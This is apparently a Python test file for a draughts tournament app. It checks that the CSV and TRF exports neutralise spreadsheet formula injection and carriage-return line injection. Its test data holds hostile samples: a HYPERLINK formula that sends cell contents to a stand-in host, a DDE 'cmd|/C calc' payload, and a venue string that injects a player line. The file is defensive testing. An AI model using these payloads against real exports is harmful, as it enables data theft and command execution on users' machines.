"""Exports cannot carry spreadsheet formulas or extra TRF lines (issue 14, point 9).

A player named ``=HYPERLINK(...)`` ran as a formula when rating.csv was opened in a spreadsheet
(OWASP CSV injection), and a venue ``"...\\r001 ..."`` added a player line to the TRF export.
"""
from __future__ import annotations

import csv
import io

from damas.engine.trf import read_trf
from damas.exports.csv_safe import Literal, neutralise
from damas.models import Player
from tests.web.awards.test_awards_helpers import finished_round_robin

HOSTILE = {"João Conceição": '=HYPERLINK("http://x.example/?"&A1,"ver")', "José Brandão": "@SUM(1+1)*cmd|' /C calc'!A0",
           "Ana Júlia Araújo": "+55 85 9999", "Maria": "-2+3", "Pedro": "\tTab", "Lia": "\rCR"}


def _hostile_event(db, make_user, make_player):  # type: ignore[no-untyped-def]
    event, staff, arbiter = finished_round_robin(db, make_user, make_player)
    players = db.session.query(Player).order_by(Player.id).all()
    for player, name in zip(players, HOSTILE.values()):
        player.full_name = name
    event.venue = "Fortaleza\r001    7 m    Injetado Por Local                        2500 BRA"
    event.chief_arbiter = "Árbitro\nRegional\x0b"  # (NUL never gets in: test_nul_bytes)
    staff.name = "=1+1"
    db.session.commit()
    return event, staff, arbiter


def test_owasp_csv_injection_cells_are_neutralised_in_rating_csv(client, db, make_user, make_player,  # type: ignore[no-untyped-def]
                                                                 login_as):
    event, _staff, arbiter = _hostile_event(db, make_user, make_player)
    login_as(arbiter)
    text = client.get(f"/eventos/{event.id}/relatorios/rating.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    names = {r["brancas_nome"] for r in rows} | {r["pretas_nome"] for r in rows}
    assert names == {"'" + name.replace("\t", " ").replace("\r", " ") for name in HOSTILE.values()}
    assert all(r["brancas_rating"].isdigit() for r in rows)  # numbers stay numbers
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells if cell not in ("+/-", "-/+", "-/-"))


def test_owasp_csv_injection_cells_are_neutralised_in_the_audit_csv(client, db, make_user, make_player,  # type: ignore[no-untyped-def]
                                                                    login_as):
    event, staff, _arbiter = _hostile_event(db, make_user, make_player)
    login_as(staff)
    text = client.get(f"/eventos/{event.id}/mesa/auditoria.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and {r["quem"] for r in rows} == {"'=1+1"}
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_forfeit_codes_and_numbers_are_written_as_they_are() -> None:
    assert neutralise(Literal("-/+")) == "-/+" and neutralise("-/+") == "'-/+"
    assert neutralise(-5) == -5 and neutralise("") == "" and neutralise("Ana") == "Ana"
    assert neutralise("=A1") == "'=A1" and neutralise("\r=A1") == "' =A1"
    assert neutralise("linha 1\nlinha 2\x00") == "linha 1 linha 2 "


def test_trf_export_control_characters_never_reach_the_file(client, db, make_user, make_player,  # type: ignore[no-untyped-def]
                                                           login_as):
    event, _staff, arbiter = _hostile_event(db, make_user, make_player)
    login_as(arbiter)
    text = client.get(f"/eventos/{event.id}/relatorios/fide.trf").get_data(as_text=True)
    assert not any(ch in text for ch in "\r\x00\t\x0b\x0c")
    lines = text.split("\n")
    assert sum(1 for line in lines if line.startswith("001")) == 6  # no injected player line
    assert "022 Fortaleza 001 7 m Injetado" in text
    assert "102 Árbitro Regional" in text
    trf = read_trf(text)
    assert len(trf.state.entrants) == 6
    assert {e.name for e in trf.state.entrants} >= {"Tab", "CR"}
